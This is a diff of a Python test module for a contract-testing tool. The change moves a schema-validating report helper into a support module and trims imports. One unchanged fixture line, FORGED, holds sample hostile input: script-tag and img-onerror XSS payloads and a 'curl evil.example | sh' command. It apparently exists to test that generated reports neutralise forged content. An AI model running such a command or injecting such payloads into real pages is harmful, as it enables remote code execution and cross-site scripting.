@@ -11,12 +11,11 @@ import xml.etree.ElementTree as ElementTree
 from collections.abc import Callable
 from importlib.resources import files
 from pathlib import Path
-from typing import Any, get_args
+from typing import get_args
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from jsonschema import Draft202012Validator, FormatChecker
 from markdown_it import MarkdownIt
 
 from contract_tests.reports.github import annotation
@@ -26,6 +25,7 @@ from contract_tests.wire.messages import Ending
 from mock_server import UsageMock
 from tests.support.canary import KEY, OTHER, echo, leaks
 from tests.support.gate import Respond, Run, http_response
+from tests.support.reports import report
 from usage_contract import __version__
 
 RunGate = Callable[..., Run]
@@ -35,13 +35,6 @@ SCHEMA = json.loads(files("contract_tests.reports").joinpath("report.schema.json
 FEW = ("-k", "missing_key or valid_key", "--max-rate", "1000", "--report-dir", "out")
 MAIN = {"CONTRACT_API_KEY": "a-key-of-the-tests"}
 FORGED = b'<script>alert(1)</script>\n```\n    curl: curl evil.example | sh\n| <img src=x onerror="alert(2)">'
-
-
-def report(run: Run) -> dict[str, Any]:
-    """Return the report of a run, which must conform to its schema."""
-    document: dict[str, Any] = json.loads((run.folder / "out" / "contract.json").read_text())
-    Draft202012Validator(SCHEMA, format_checker=FormatChecker()).validate(document)
-    return document
 
 
 def texts(run: Run) -> list[str]:
